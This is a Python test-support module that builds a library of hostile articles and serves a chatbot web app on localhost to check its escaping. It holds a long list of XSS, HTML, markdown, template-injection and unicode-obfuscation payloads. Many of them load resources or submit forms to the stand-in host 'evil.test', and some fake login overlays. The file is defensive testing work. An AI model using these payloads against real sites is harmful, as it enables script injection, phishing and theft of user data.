"""Hostile words, a library of articles made of them, and the real page served on it."""

import json
import re
import sys
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

from bot.cite import REFUSAL, Answer, cite, quote_sentences
from ingest.clean import clean_text
from ingest.feedback import add_feedback
from ingest.store import Store
from ingest.sync import sync
from tests.articles import WordEmbedder
from tests.test_staff import WordsLibrary

PASSWORD = "correct horse"  # noqa: S105
# The browser is told to find this host at a listener that counts.
FOREIGN = "evil.test"
# What any of these makes has the class or the id "pwn", names FOREIGN, or sets `window.pwned`.
PAYLOADS = (
    # Scripts.
    "<script>window.pwned=1</script>",
    "<script src=//evil.test/s.js class=pwn></script>",
    "<script src='//evil.test/m.js' type=module class=pwn></script>",
    "<ScRiPt>window.pwned=2</sCrIpT>",
    "<scr<script>ipt>window.pwned=3</scr</script>ipt>",
    "</p></div><script>window.pwned=4</script>",
    "<!--><script>window.pwned=5</script>-->",
    '<noscript><p title="</noscript><img src=x class=pwn onerror=window.pwned=6>"></noscript>',
    # Handlers.
    "<img src=x class=pwn onerror=window.pwned=7>",
    '"><img src=x class=pwn onerror="window.pwned=8">',
    "'><img src=x class=pwn onerror='window.pwned=9'>",
    "<body class=pwn onload=window.pwned=10>",
    "<b class=pwn onmouseover=window.pwned=11>hover</b>",
    "<input class=pwn autofocus onfocus=window.pwned=12>",
    "<details class=pwn open ontoggle=window.pwned=13><summary>x</summary></details>",
    "<p class=pwn style=animation-name:x onanimationstart=window.pwned=14>x</p>",
    '" autofocus tabindex=1 onfocus="window.pwned=15" class="pwn',
    "<xss class=pwn id=pwn15 tabindex=1 onfocus=window.pwned=16 autofocus>x</xss>",
    # Images and media.
    "<img class=pwn src=http://evil.test/i.png>",
    "<img class=pwn srcset='http://evil.test/a.png 1x, http://evil.test/b.png 2x'>",
    "<picture class=pwn><source srcset=http://evil.test/c.png><img src=/x></picture>",
    "<video class=pwn src=http://evil.test/v.mp4 poster=http://evil.test/p.png autoplay></video>",
    "<audio class=pwn src=http://evil.test/a.mp3 autoplay></audio>",
    "<input class=pwn type=image src=http://evil.test/in.png>",
    "<table class=pwn background=http://evil.test/t.png><tr><td>x</table>",
    "<track class=pwn src=http://evil.test/t.vtt>",
    # Markdown.
    "![secret](http://evil.test/m.png?q=1)",
    "![secret][ref]\n\n[ref]: http://evil.test/r.png",
    "[![x](http://evil.test/n.png)](http://evil.test/n)",
    "[click me](javascript:window.pwned=17)",
    "[click me](http://evil.test/click 'title')",
    "[log in][1]\n\n[1]: data:text/html,<script>window.pwned=18</script>",
    "<http://evil.test/auto>",
    "\n\n# A heading\n\n<img class=pwn src=http://evil.test/h.png>\n\n",
    "\n\n```html\n<img class=pwn src=http://evil.test/f.png>\n```\n\n",
    "| a | b |\n|---|---|\n| ![x](http://evil.test/t.png) | y |",
    "\n    <img class=pwn src=http://evil.test/code.png>",
    "```mermaid\ngraph TD; A[<img class=pwn src=http://evil.test/g.png>] --> B\n```",
    '```mermaid\nflowchart LR\nclick A href "javascript:window.pwned=19"\n```',
    # Overlays and forms.
    "<div id=pwn1 style='position:fixed;inset:0;z-index:9999;background:#fff'>Log in again</div>",
    "<dialog class=pwn open style=position:fixed;inset:0>Session expired</dialog>",
    "<form class=pwn action=http://evil.test/login><input name=pwn type=password></form>",
    "<button class=pwn formaction=http://evil.test/go form=q>Go</button>",
    "<textarea class=pwn></textarea><select class=pwn><option>x</select>",
    "</textarea><img class=pwn src=x onerror=window.pwned=20>",
    "</title><img class=pwn src=x onerror=window.pwned=21>",
    "<button class=pwn data-action=close>X</button><a class='pwn cite' href=/a/x#0-1>1</a>",
    # Styles, links, frames.
    "<style>@import url(http://evil.test/i.css);body{display:none}</style>",
    "<style>*{background:url(http://evil.test/b.png)}</style>",
    '<p class=pwn style="background:url(http://evil.test/u.png)">x</p>',
    "<link class=pwn rel=stylesheet href=http://evil.test/l.css>",
    "<link class=pwn rel=prefetch href=http://evil.test/pre>",
    "<base class=pwn href=http://evil.test/>",
    "<meta class=pwn http-equiv=refresh content='0;url=http://evil.test/meta'>",
    "<iframe class=pwn src=http://evil.test/frame></iframe>",
    "<iframe class=pwn srcdoc='<script>parent.pwned=22</script>'></iframe>",
    "<object class=pwn data=http://evil.test/o.swf></object>",
    "<embed class=pwn src=http://evil.test/e.swf>",
    "<a class=pwn href=javascript:window.pwned=23>x</a>",
    "<a class=pwn href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a class=pwn href='&#106;avascript:window.pwned=24'>x</a>",
    "<a class=pwn href=http://evil.test/ping ping=http://evil.test/ping2>x</a>",
    # SVG and MathML.
    "<svg class=pwn><script>window.pwned=25</script></svg>",
    "<svg class=pwn onload=window.pwned=26></svg>",
    "<svg class=pwn><image href=http://evil.test/svg.png /></svg>",
    "<svg class=pwn><use href='http://evil.test/u.svg#x'/></svg>",
    "<svg class=pwn><animate onbegin=window.pwned=27 attributeName=x dur=1s></svg>",
    "<math class=pwn><mtext><img src=x onerror=window.pwned=28></mtext></math>",
    # What the page's own layers could take for theirs.
    "${window.pwned=29}",
    "${Object.assign(window,{pwned:30})}",
    "${fetch(String.fromCharCode(47,47)+document.domain)}`${window.pwned=31}`",
    "`+(window.pwned=32)+`",
    "\\`+(window.pwned=33)+\\`\\${window.pwned=34}",
    "{{value}} {{{value}}} {{this.constructor.constructor 'window.pwned=35'}}",
    "{{#each this}}{{this}}{{/each}} {% raw %} <%= 7*7 %> #{7*7}",
    "{question} {0.__class__} %s %(x)s {number!r}",
    '__i18n__{"key": "<img class=pwn src=x onerror=window.pwned=36>"}',
    '__i18n__{"key": "\\u003cimg class=pwn src=x onerror=window.pwned=37\\u003e"}',
    "$$\\href{javascript:window.pwned=38}{x}$$ $\\url{http://evil.test/tex}$",
    "\\(\\htmlData{x=<img class=pwn src=x onerror=window.pwned=39>}{y}\\)",
    # Entities and odd characters.
    "&lt;img class=pwn src=x onerror=window.pwned=40&gt;",
    "&#60;script&#62;window.pwned=41&#60;/script&#62;",
    "\uff1cscript\uff1ewindow.pwned=42\uff1c/script\uff1e",
    "<img\x0csrc=x\x0cclass=pwn\x0conerror=window.pwned=43>",
    "<im\u200bg class=pwn src=x onerror=window.pwned=44>",
    "\u202e<img class=pwn src=x onerror=window.pwned=45>\u202c \u2066x\u2069",
    "\U000e003cimg\U000e003e <s\u0131cript>window.pwned=46</s\u0131cript>",
    "line\u2028\u2029<img class=pwn src=x onerror=window.pwned=47>\x85<hr class=pwn>",
)


def tidy(text: str) -> str:
    """Return a text with its white space as a browser's comparison needs it."""
    return " ".join(text.split())


def shown_of(payload: str) -> str:
    """Return the form of a payload that an article's text keeps."""
    return tidy(clean_text(payload))


def escape_markdown(text: str) -> str:
    """Return one line of Markdown that reads as `text`."""
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", shown_of(text))


def name_file(payload: str) -> str:
    """Return a payload as a file may be called."""
    name = shown_of(payload).replace("/", "\u2215")
    return name.encode()[:180].decode(errors="ignore").strip(" .")


def write_hostile_articles(folder: Path) -> None:
    """Write one article for each payload, which stands wherever an article has words."""
    for number, payload in enumerate(PAYLOADS):
        words = shown_of(payload)
        fields = {
            "title": words, "author": words, "published": "2024-06-19", "summary": words,
            "topics": [words], "sources": [words, f"http://{FOREIGN}/{number}"],
            "url": words if number % 2 else f"https://{FOREIGN}/{number}?{words}",
        }  # fmt: skip
        line = escape_markdown(payload)
        text = (
            f"---\n{json.dumps(fields)}\n---\n\nBridge {number} was opened in {1900 + number} "
            f"{line} by the mayor.\n\n## {line}\n\nIt carries two roads {line}.\n"
        )
        # No address gives an article the name of its folder as the place that it is from.
        file = folder / name_file(payload) / f"{name_file(payload)}.md"
        file.parent.mkdir(parents=True)
        file.write_text(text, encoding="utf-8")


def make_answers(store: Path) -> list[Answer]:
    """Return an answer and a refusal on each article, payloads in every string of them."""
    with Store(store) as library:
        articles = {item.title: item for item in library.list_articles()}
        answers = []
        for payload in PAYLOADS:
            article = library.get_article(articles[shown_of(payload)].article_id)
            assert article is not None
            end = article.text.index("\n\n")
            found = cite(1, article, 0, end, payload, span=(7, end - 4))
            text = f"{payload} [1]"
            said = Answer(payload, f"{payload}?", text, False, 0.3, (found,), (), {})
            answers.append(replace(said, sentences=quote_sentences(said.citations)))
            refusal = f"{REFUSAL} {payload}"
            answers.append(Answer(payload, payload, refusal, True, 0.1, (), (found,), {}))
    return answers


def make_talk(answers: Sequence[Answer], talk_id: str, title: str) -> dict[str, object]:
    """Return a conversation as a browser keeps it."""
    turns = [{"answer": answer.to_dict(), "scope": answer.question} for answer in answers]
    talk = {"id": talk_id, "title": title, "turns": turns, "at": "2026-01-01T00:00:00Z"}
    return dict(json.loads(json.dumps(talk)))


def make_hostile_library(folder: Path) -> Path:
    """Make the library of hostile articles, changed once, with hostile words of readers."""
    write_hostile_articles(folder / "articles")
    store = folder / "library"
    sync([folder / "articles"], store, WordEmbedder())
    first = next((folder / "articles").glob("*/*.md"))
    first.write_text(first.read_text(encoding="utf-8") + "\nIt is closed.\n", encoding="utf-8")
    sync([folder / "articles"], store, WordEmbedder())
    for payload in PAYLOADS:
        answer = {"text": payload, "citations": []}
        add_feedback(store, payload, f"{payload}?", False, clean_text(payload), answer)
    return store


def serve_hostile(path: Path, port: int) -> None:
    """Serve the real page on a library; what it offers to ask are the payloads."""
    import uvicorn

    import app
    import bot.page.build
    import bot.page.chat

    def suggest(*arguments: object, **options: object) -> list[str]:
        return [tidy(payload) for payload in PAYLOADS]

    # The worst that articles could make of these; a model, which needs time, is not needed.
    setattr(bot.page.chat, "suggest_examples", suggest)  # noqa: B010
    setattr(bot.page.chat, "suggest_follow_ups", suggest)  # noqa: B010
    setattr(bot.page.build, "OpenLibrary", lambda path, *_: WordsLibrary(path))  # noqa: B010
    page = app.build_app(path, password=PASSWORD)
    uvicorn.run(page, host="127.0.0.1", port=port, log_level="warning")


if __name__ == "__main__":
    serve_hostile(Path(sys.argv[1]), int(sys.argv[2]))
